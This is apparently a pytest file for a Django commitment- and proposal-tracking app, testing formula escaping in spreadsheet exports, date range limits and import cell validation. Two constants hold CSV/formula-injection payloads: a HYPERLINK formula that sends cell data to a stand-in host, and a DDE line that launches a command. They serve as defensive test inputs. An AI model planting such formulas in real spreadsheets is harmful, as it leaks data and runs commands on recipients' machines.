"""Careless and hostile input on the web pages: formula text in exports, dates out of range, oversize import cells."""

import datetime as dt
import io

import pytest
import time_machine
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import load_workbook

from commitments.forms import ChangeRequestForm, CommitmentForm, ReplyMetaForm
from commitments.models import Commitment
from proposals.models import Proposal, ProposalProposer
from proposals.spreadsheets import csv_cell, starts_formula
from tests import factories
from tests.ui.helpers import xlsx_bytes

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://x"&A1,"点击查看")'
DDE = "=cmd|' /C calc'!A0"


def _export(client, **params):
    response = client.get(reverse("commitments:export"), {"tab": "all", **params})
    assert response.status_code == 200
    return load_workbook(io.BytesIO(b"".join(response.streaming_content))).active


def test_export_writes_formula_like_user_text_as_text_and_has_title_and_proposers(client, commitment, supervisor):
    Commitment.objects.filter(pk=commitment.pk).update(text=HYPERLINK, deadline_text="@SUM(1+1)")
    factories.TargetFactory(commitment=commitment, text=DDE, unit="+1")
    proposal = commitment.proposal
    Proposal.objects.filter(pk=proposal.pk).update(title="＝1+1 关于标题的建议")
    for position, name in enumerate(["-张三", "李四"]):
        proposer = factories.ProposerFactory(name=name)
        ProposalProposer.objects.create(proposal=proposal, proposer=proposer, position=position)
    client.force_login(supervisor)
    sheet = _export(client)
    header = [c.value for c in next(sheet.iter_rows(max_row=1))]
    assert "建议/提案标题" in header and "提出人" in header
    row = {header[i]: cell for i, cell in enumerate(next(sheet.iter_rows(min_row=2, max_row=2)))}
    assert row["承诺原文"].value == HYPERLINK and row["承诺原文"].data_type == "s"
    assert row["期限原文"].value == "@SUM(1+1)" and row["期限原文"].data_type == "s"
    assert DDE in row["量化目标"].value and row["量化目标"].data_type == "s"
    assert row["建议/提案标题"].value == "＝1+1 关于标题的建议"
    assert row["提出人"].value == "-张三、李四"
    for cell in next(sheet.iter_rows(min_row=2, max_row=2)):
        assert cell.data_type != "f", cell.value
        if isinstance(cell.value, str) and starts_formula(cell.value):
            assert cell.quotePrefix  # Excel keeps it text even when the cell is edited


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1", "＝1", "＋1", "－1", "＠A1", " =1"])
def test_every_formula_start_is_recognised(text):
    assert starts_formula(text) and csv_cell(text) == "'" + text
    assert not starts_formula("关于=的建议") and csv_cell(5) == 5


def test_export_survives_deadlines_stored_out_of_range(client, commitment, supervisor):
    other = factories.CommitmentFactory(response=commitment.response)
    Commitment.objects.filter(pk=commitment.pk).update(deadline=dt.date(1, 1, 1))
    Commitment.objects.filter(pk=other.pk).update(deadline=dt.date(9999, 12, 31))
    client.force_login(supervisor)
    with time_machine.travel(dt.datetime(2026, 3, 1, 4, tzinfo=dt.UTC), tick=False):
        sheet = _export(client)
    deadlines = sorted(str(r[2]) for r in sheet.iter_rows(min_row=2, values_only=True))
    assert deadlines == ["0001-01-01", "9999-12-31"]


@pytest.mark.parametrize("day", ["0001-01-01", "1999-12-31", "2101-01-01", "9999-12-31"])
def test_forms_refuse_dates_out_of_range(day):
    for form in (
        CommitmentForm(data={"text": "x", "deadline": day, "precision": "day", "strength": "other"}),
        ChangeRequestForm(data={"kind": "extension", "requested_deadline": day, "reason": "x"}),
        ReplyMetaForm(data={"signed_on": day, "disclosure": "unknown"}),
    ):
        assert not form.is_valid()
        field = next(f for f in ("deadline", "requested_deadline", "signed_on") if f in form.fields)
        assert "2000-01-01" in form.errors[field][0]


def test_change_request_page_refuses_a_date_out_of_range(client, commitment, clerk):
    client.force_login(clerk)
    response = client.post(
        reverse("commitments:request", args=[commitment.pk]),
        {"kind": "extension", "requested_deadline": "9999-12-31", "reason": "延后"},
    )
    assert response.status_code == 400 and "日期须在 2000-01-01 至 2100-12-31 之间" in response.content.decode()
    assert not commitment.change_requests.exists()


def test_import_turns_bad_cells_into_row_errors_not_a_500(client):
    session = factories.SessionFactory()
    factories.AgencyFactory(name="昆明市发展和改革委员会")
    supervisor = factories.supervisor_of(session.body, "import_sup")
    rows = [
        ["编号", "标题", "提出人", "主办单位", "交办日期"],
        ["1", "日期太远", "张三", "昆明市发展和改革委员会", dt.datetime(9999, 12, 31)],
        ["2" * 40, "编号太长", "李四", "昆明市发展和改革委员会", "2024-03-01"],
        ["3", "提出人太长", "王" * 150, "昆明市发展和改革委员会", "2024-03-01"],
        ["4", "正常", "赵六", "昆明市发展和改革委员会", "2024-03-01"],
    ]
    client.force_login(supervisor)
    preview = client.post(
        reverse("proposals:import"), {"session": session.pk, "file": SimpleUploadedFile("l.xlsx", xlsx_bytes(rows))}
    )
    assert preview.status_code < 500
    body = preview.content.decode()
    assert "交办日期超出范围" in body and "编号超过 32 字" in body and "提出人超过 100 字" in body
    assert "确认导入" not in body
    assert Proposal.objects.count() == 0


def test_closing_a_commitment_closed_meanwhile_is_a_409_page(client, commitment, clerk):
    client.force_login(clerk)
    url = reverse("commitments:close", args=[commitment.pk])
    first = client.post(url, {"status": "missed", "reason": "资金未到位"})
    assert first.status_code == 302
    again = client.post(url, {"status": "missed", "reason": "资金未到位"})
    assert again.status_code == 409 and "已是" in again.content.decode()
    assert commitment.progress_updates.count() == 1


def test_long_reasons_notes_and_links_on_the_commitment_page_are_a_400_or_saved_not_a_500(client, commitment, clerk):
    """Session 20: the page's forms took any length; a link over 200 characters (a varchar(200)) and a closing reason
    over 100 (the history's change reason) were DataErrors, 500s. A link is now refused at 200 characters and a note
    or reason at 5,000, as the API refuses them, and a reason of up to 5,000 closes the commitment."""
    client.force_login(clerk)
    progress = reverse("commitments:progress", args=[commitment.pk])
    close = reverse("commitments:close", args=[commitment.pk])
    link = "https://example.gov.cn/" + "a" * 300
    assert client.post(progress, {"note": "x", "evidence_url": link}).status_code == 400
    assert client.post(progress, {"note": "长" * 100_000}).status_code == 400
    assert client.post(close, {"status": "fulfilled", "evidence_url": link}).status_code == 400
    assert commitment.progress_updates.count() == 0
    response = client.post(close, {"status": "missed", "reason": "因" * 300})
    assert response.status_code == 302
    commitment.refresh_from_db()
    assert commitment.status == "missed" and commitment.progress_updates.get().note == "因" * 300
